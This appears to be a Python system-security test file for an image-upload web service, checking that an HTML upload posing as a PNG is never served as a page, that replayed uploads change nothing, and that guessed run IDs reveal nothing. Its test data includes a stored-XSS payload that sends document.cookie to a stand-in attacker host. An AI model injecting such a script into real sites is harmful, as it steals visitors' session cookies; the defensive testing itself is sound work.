"""What strangers try on the whole system; docs/security.md has the table."""

from __future__ import annotations

import secrets

import httpx

from tests.system.running import Running
from tests.system.visitor import Visitor, picture

SCRIPT = b"<!doctype html><script>fetch('https://evil.example/' + document.cookie)</script>"


def test_a_page_that_is_uploaded_as_a_picture_is_never_a_page(
    visitor: Visitor, stack: Running
) -> None:
    """Stored XSS: not on the page's origin, not as HTML, not to anyone but the operator."""
    post = visitor.http.post(
        "/api/upload-urls", json={"slot": "content", "content_type": "image/png"}
    ).json()
    assert visitor.upload(post, SCRIPT).status_code in {200, 201, 204}
    stored = stack.client("s3").get_object(Bucket=stack.named("storage"), Key=post["key"])
    assert (stored["Body"].read(), stored["ContentType"]) == (SCRIPT, "image/png")
    for url in (f"{stack.web_url}/{post['key']}", stack.object_url("storage", post["key"])):
        assert SCRIPT not in httpx.get(url, headers={"Accept": "text/html"}).content
    # Links are for what the worker has written; there are none for uploads.
    admission = visitor.admit()
    assert set(admission["links"]) == {"events", "preview", "result", "expires_at"}
    page = visitor.http.get("/")
    assert page.headers["x-content-type-options"] == "nosniff"
    assert "script-src 'self'" in page.headers["content-security-policy"]


def test_an_upload_that_is_replayed_changes_no_painting_and_fills_no_storage(
    visitor: Visitor, stack: Running
) -> None:
    admission = visitor.begin()
    run_id, content = admission["run_id"], admission["uploads"]["content"]
    assert visitor.finish(run_id)["state"] == "succeeded"
    paid = visitor.settled(run_id)["spent_microusd"]
    painting = httpx.get(admission["links"]["result"])
    for seed in (7, 8, 9):
        assert visitor.upload(content, picture(seed=seed)).status_code in {200, 201, 204}
    assert visitor.start(run_id).status_code == 202
    assert httpx.get(admission["links"]["result"]).headers["etag"] == painting.headers["etag"]
    assert visitor.settled(run_id)["spent_microusd"] == paid
    s3 = stack.client("s3")
    kept = s3.list_objects_v2(Bucket=stack.named("storage"), Prefix=f"runs/{run_id}/")["Contents"]
    assert [o["Key"] for o in kept if o["Key"].endswith("/content")] == [f"runs/{run_id}/content"]


def test_guesses_learn_nothing_and_start_nothing(visitor: Visitor) -> None:
    before = visitor.budget()
    for _ in range(3):
        guess = secrets.token_hex(16)
        answers = [
            visitor.http.get(f"/api/runs/{guess}"),
            visitor.post(f"/api/runs/{guess}/links", {}),
            visitor.post(f"/api/runs/{guess}/stop", {}),
        ]
        assert [answer.status_code for answer in answers] == [404] * 3
        assert visitor.start(guess).status_code == 422
    assert visitor.budget()["reserved_microusd"] == before["reserved_microusd"]
